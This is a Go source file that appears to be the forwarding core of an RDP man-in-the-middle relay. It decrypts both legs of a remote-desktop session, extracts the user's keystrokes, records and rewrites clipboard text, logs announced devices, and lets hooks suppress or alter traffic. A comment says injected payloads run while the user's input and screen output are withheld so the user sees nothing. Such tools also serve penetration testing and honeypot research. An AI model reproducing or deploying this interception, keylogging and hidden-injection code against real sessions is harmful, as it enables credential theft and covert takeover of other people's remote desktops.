package relay

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"

	"github.com/rcarmo/rdp-relay/internal/obs"
	"github.com/rcarmo/rdp-relay/internal/protocol/cliprdr"
	"github.com/rcarmo/rdp-relay/internal/protocol/fastpath"
	"github.com/rcarmo/rdp-relay/internal/protocol/framing"
	"github.com/rcarmo/rdp-relay/internal/protocol/mcs"
	"github.com/rcarmo/rdp-relay/internal/protocol/pdu"
	"github.com/rcarmo/rdp-relay/internal/protocol/rdpdr"
	"github.com/rcarmo/rdp-relay/internal/protocol/rdpsec"
	"github.com/rcarmo/rdp-relay/internal/protocol/x224"
	"github.com/rcarmo/rdp-relay/internal/recording"
)

// macSignatureLen is the dataSignature size in non-FIPS security headers.
const macSignatureLen = 8

// leg couples one socket with its RDP security state. cipher is nil when
// the leg runs over TLS or negotiated no encryption; then application data
// carries no security header at all.
type leg struct {
	conn   *Connection
	cipher *rdpsec.Cipher
}

// open strips the leg's security envelope from slow-path application data.
func (l *leg) open(data []byte) ([]byte, error) {
	if l.cipher == nil {
		return data, nil
	}

	flags, body, err := rdpsec.SplitFlags(data)
	if err != nil {
		return nil, err
	}

	if flags&rdpsec.SecEncrypt == 0 {
		return body, nil
	}

	if len(body) < macSignatureLen {
		return nil, rdpsec.ErrShortHeader
	}

	return l.cipher.Decrypt(body[macSignatureLen:], body[:macSignatureLen])
}

// seal wraps slow-path application data in the leg's security envelope,
// preserving any semantic flags (SEC_INFO_PKT and friends).
func (l *leg) seal(flags uint16, payload []byte) []byte {
	if l.cipher == nil {
		if flags == 0 {
			return payload
		}

		return rdpsec.WrapFlags(flags, payload)
	}

	encrypted, signature := l.cipher.Encrypt(payload)

	buf := new(bytes.Buffer)
	_ = binary.Write(buf, binary.LittleEndian, flags|rdpsec.SecEncrypt)
	buf.Write([]byte{0x00, 0x00}) // flagsHi
	buf.Write(signature)
	buf.Write(encrypted)

	return buf.Bytes()
}

// openFastPath strips the fast-path security envelope, returning the event
// or update stream.
func (l *leg) openFastPath(header byte, body []byte) ([]byte, error) {
	if fastpath.HeaderFlags(header)&fastpath.FlagEncrypted == 0 {
		return body, nil
	}

	if l.cipher == nil {
		return nil, fmt.Errorf("%w: encrypted fast-path on plain leg", ErrUnexpectedPDU)
	}

	if len(body) < macSignatureLen {
		return nil, rdpsec.ErrShortHeader
	}

	return l.cipher.Decrypt(body[macSignatureLen:], body[:macSignatureLen])
}

// sealFastPath rebuilds a fast-path frame around a plaintext body. The
// action and event-count bits are preserved from the source header; the
// security bits are rewritten for this leg.
func (l *leg) sealFastPath(header byte, body []byte) []byte {
	header &= 0x3F

	if l.cipher == nil {
		return framing.WrapFastPath(header, body)
	}

	encrypted, signature := l.cipher.Encrypt(body)
	header |= fastpath.FlagEncrypted << 6

	sealed := make([]byte, 0, len(signature)+len(encrypted))
	sealed = append(sealed, signature...)
	sealed = append(sealed, encrypted...)

	return framing.WrapFastPath(header, sealed)
}

// writeTPDU writes an X.224 data TPDU to the leg.
func (l *leg) writeTPDU(payload []byte) error {
	return l.conn.WriteFrame(framing.Frame{Kind: framing.KindTPKT, Payload: x224.WrapData(payload)})
}

// writeChannel sends one sealed payload as MCS send data toward the leg.
func (l *leg) writeChannel(toServer bool, initiator, channelID uint16, sealed []byte) error {
	var dom *mcs.DomainPDU

	if toServer {
		dom = mcs.NewSendDataRequest(initiator, channelID, sealed)
	} else {
		dom = mcs.NewSendDataIndication(initiator, channelID, sealed)
	}

	return l.writeTPDU(dom.Serialize())
}

// pumpState is one direction's view of the active session.
type pumpState struct {
	src leg // frames are read here
	dst leg // and forwarded here

	direction Direction
	mux       *Mux
}

func (p *pumpState) toServer() bool {
	return p.direction == ClientToServer
}

func countForward(direction Direction, n int) {
	obs.ForwardedPDUs.WithLabelValues(direction.String()).Inc()
	obs.ForwardedBytes.WithLabelValues(direction.String()).Add(float64(n))
}

// pump forwards frames for one direction until its source closes.
func (s *Session) pump(p *pumpState) error {
	for {
		frame, err := p.src.conn.ReadFrame()
		if err != nil {
			return err
		}

		if err := s.pumpFrame(p, frame); err != nil {
			return err
		}
	}
}

func (s *Session) pumpFrame(p *pumpState, frame framing.Frame) error {
	if frame.Kind == framing.KindFastPath {
		if p.toServer() {
			return s.forwardFastPathInput(p, frame)
		}

		return s.forwardFastPathOutput(p, frame)
	}

	tpdu, err := x224.Parse(frame.Payload)
	if err != nil {
		return err
	}

	if tpdu.IsDisconnectRequest() {
		_ = p.dst.conn.WriteFrame(frame)

		return ErrConnectionClosed
	}

	if !tpdu.IsData() {
		return fmt.Errorf("%w: control tpdu while active", ErrUnexpectedPDU)
	}

	dom, err := mcs.ParseDomainPDU(tpdu.Data)
	if err != nil {
		return err
	}

	switch dom.Application {
	case mcs.SendDataRequest, mcs.SendDataIndication:
		return s.forwardSendData(p, dom.SendData)
	case mcs.DisconnectProviderUltimatum:
		_ = p.dst.conn.WriteFrame(frame)

		return ErrConnectionClosed
	default:
		// Other domain PDUs do not normally recur while active; relay
		// them untouched so a deactivation-reactivation sequence is not
		// broken by the middle hop.
		err := p.dst.conn.WriteFrame(frame)
		countForward(p.direction, len(frame.Payload))

		return err
	}
}

// forwardSendData handles one slow-path MCS data PDU: core RDP traffic on
// the IO channel, virtual channel traffic elsewhere.
func (s *Session) forwardSendData(p *pumpState, sd *mcs.SendDataPDU) error {
	if p.mux.IsIOChannel(sd.ChannelId) {
		return s.forwardIOData(p, sd)
	}

	return s.forwardChannelData(p, sd)
}

func (s *Session) forwardIOData(p *pumpState, sd *mcs.SendDataPDU) error {
	plain, err := p.src.open(sd.Data)
	if err != nil {
		return err
	}

	if p.toServer() {
		s.rec.append(recording.KindClientPDU, plain)
		s.observeClientShareData(plain)
	} else {
		s.rec.append(recording.KindServerPDU, plain)
	}

	event := &Event{Direction: p.direction, Kind: EventSlowPathPDU, Payload: plain}

	verdict, processed := s.hooks.Apply(event)
	if verdict == VerdictSuppress {
		return nil
	}

	if rewritten, ok := processed.Payload.([]byte); verdict == VerdictRewrite && ok {
		plain = rewritten

		// the recording keeps both what was sent and what was delivered
		if p.toServer() {
			s.rec.append(recording.KindClientPDU, plain)
		} else {
			s.rec.append(recording.KindServerPDU, plain)
		}
	}

	// While a payload runs, client input is swallowed and server output
	// withheld so the user sees nothing of the injection.
	if s.injector.Suppressing() {
		return nil
	}

	countForward(p.direction, len(plain))

	return p.dst.writeChannel(p.toServer(), sd.Initiator, sd.ChannelId, p.dst.seal(0, plain))
}

// observeClientShareData extracts keystrokes from slow-path input PDUs.
func (s *Session) observeClientShareData(plain []byte) {
	var header pdu.ShareControlHeader
	if err := header.Deserialize(bytes.NewReader(plain)); err != nil || !header.PDUType.IsData() {
		return
	}

	var data pdu.Data
	if err := data.Deserialize(bytes.NewReader(plain)); err != nil || data.InputPDUData == nil {
		return
	}

	if text := s.keylog.ObserveSlowPath(data.InputPDUData.Events); text != "" {
		s.rec.json(recording.KindKeystrokes, keystrokesRecord{Text: text})
	}
}

func (s *Session) forwardChannelData(p *pumpState, sd *mcs.SendDataPDU) error {
	plain, err := p.src.open(sd.Data)
	if err != nil {
		return err
	}

	msg, decodeErr := p.mux.Process(sd.ChannelId, p.direction, plain)
	if decodeErr != nil {
		var cde *ChannelDecodeError
		if !errors.As(decodeErr, &cde) {
			return decodeErr
		}

		s.rec.json(recording.KindChannelDecodeError, channelErrorRecord{Channel: cde.Channel, Error: cde.Err.Error()})
		obs.ErrorsTotal.WithLabelValues("channel_decode").Inc()
		s.log.Warn("%v; channel now forwarded opaquely", cde)
	}

	if msg == nil { // mid-message chunk, held by the defragmenter
		return nil
	}

	if msg.Raw {
		countForward(p.direction, len(msg.Data))

		return p.dst.writeChannel(p.toServer(), sd.Initiator, sd.ChannelId, p.dst.seal(0, msg.Data))
	}

	if len(msg.Devices) > 0 {
		s.recordDevices(msg.Devices)
	}

	out := msg.Data

	if msg.Clipboard != nil {
		replaced, suppressed, err := s.interceptClipboard(p, msg)
		if err != nil {
			return err
		}

		if suppressed {
			return nil
		}

		if replaced != nil {
			out = replaced
		}
	} else {
		event := &Event{Direction: p.direction, Kind: EventChannelData, Channel: msg.Name, Payload: out}

		verdict, processed := s.hooks.Apply(event)
		if verdict == VerdictSuppress {
			return nil
		}

		if rewritten, ok := processed.Payload.([]byte); verdict == VerdictRewrite && ok {
			out = rewritten

			if p.toServer() {
				s.rec.append(recording.KindClientPDU, out)
			} else {
				s.rec.append(recording.KindServerPDU, out)
			}
		}
	}

	countForward(p.direction, len(out))

	for _, chunk := range p.mux.Fragment(out, s.cfg.Relay.VCChunkSize, msg.Flags) {
		if err := p.dst.writeChannel(p.toServer(), sd.Initiator, sd.ChannelId, p.dst.seal(0, chunk)); err != nil {
			return err
		}
	}

	return nil
}

// interceptClipboard records a clipboard text transfer and runs hooks over
// it. When a hook rewrites the text the format data response is rebuilt
// around the replacement.
func (s *Session) interceptClipboard(p *pumpState, msg *ChannelMessage) (replaced []byte, suppressed bool, err error) {
	s.rec.json(recording.KindClipboard, clipboardRecord{
		Direction: p.direction.String(),
		Stage:     "observed",
		FormatID:  msg.Clipboard.FormatID,
		Text:      msg.Clipboard.Text,
	})
	s.log.Info("clipboard %s: %d bytes of text", p.direction, len(msg.Clipboard.Text))

	event := &Event{Direction: p.direction, Kind: EventClipboard, Channel: msg.Name, Payload: msg.Clipboard}

	verdict, processed := s.hooks.Apply(event)
	if verdict == VerdictSuppress {
		return nil, true, nil
	}

	if verdict != VerdictRewrite {
		return nil, false, nil
	}

	text, ok := processed.Payload.(*cliprdr.TextEvent)
	if !ok || text == nil {
		return nil, false, nil
	}

	rebuilt, err := p.mux.EncodeClipboardText(text.FormatID, text.Text)
	if err != nil {
		return nil, false, err
	}

	s.rec.json(recording.KindClipboard, clipboardRecord{
		Direction: p.direction.String(),
		Stage:     "forwarded",
		FormatID:  text.FormatID,
		Text:      text.Text,
	})

	return rebuilt, false, nil
}

func (s *Session) recordDevices(devices []rdpdr.Device) {
	records := make([]deviceRecord, 0, len(devices))
	for _, d := range devices {
		records = append(records, deviceRecord{ID: d.ID, Type: d.TypeName(), DosName: d.DosName})
		s.log.Info("client announced %s device %q", d.TypeName(), d.DosName)
	}

	s.rec.json(recording.KindDeviceAnnounce, deviceAnnounceRecord{Devices: records})
}

func (s *Session) forwardFastPathInput(p *pumpState, frame framing.Frame) error {
	header, body, err := framing.FastPathBody(frame.Payload)
	if err != nil {
		return err
	}

	plain, err := p.src.openFastPath(header, body)
	if err != nil {
		return err
	}

	s.rec.append(recording.KindFastPathInput, plain)

	if input, err := fastpath.ParseInput(header, plain); err == nil {
		if text := s.keylog.ObserveFastPath(input.Events); text != "" {
			s.rec.json(recording.KindKeystrokes, keystrokesRecord{Text: text})

			event := &Event{Direction: p.direction, Kind: EventKeystrokes, Payload: text}
			if verdict, _ := s.hooks.Apply(event); verdict == VerdictSuppress {
				return nil
			}
		}
	}

	if s.injector.Suppressing() {
		return nil
	}

	countForward(p.direction, len(plain))

	return p.dst.conn.WriteWire(p.dst.sealFastPath(header, plain))
}

func (s *Session) forwardFastPathOutput(p *pumpState, frame framing.Frame) error {
	header, body, err := framing.FastPathBody(frame.Payload)
	if err != nil {
		return err
	}

	plain, err := p.src.openFastPath(header, body)
	if err != nil {
		return err
	}

	record := fastPathOutputRecord{Length: len(plain)}

	if updates, err := fastpath.ParseOutput(plain); err == nil {
		for _, u := range updates {
			record.UpdateCodes = append(record.UpdateCodes, u.Code)
		}
	}

	s.rec.json(recording.KindFastPathOutput, record)

	event := &Event{Direction: p.direction, Kind: EventFastPathOutput, Payload: plain}

	verdict, processed := s.hooks.Apply(event)
	if verdict == VerdictSuppress {
		return nil
	}

	if rewritten, ok := processed.Payload.([]byte); verdict == VerdictRewrite && ok {
		plain = rewritten
		s.rec.json(recording.KindFastPathOutput, fastPathOutputRecord{Length: len(plain), Stage: "forwarded"})
	}

	if s.injector.Suppressing() {
		return nil
	}

	countForward(p.direction, len(plain))

	return p.dst.conn.WriteWire(p.dst.sealFastPath(header, plain))
}
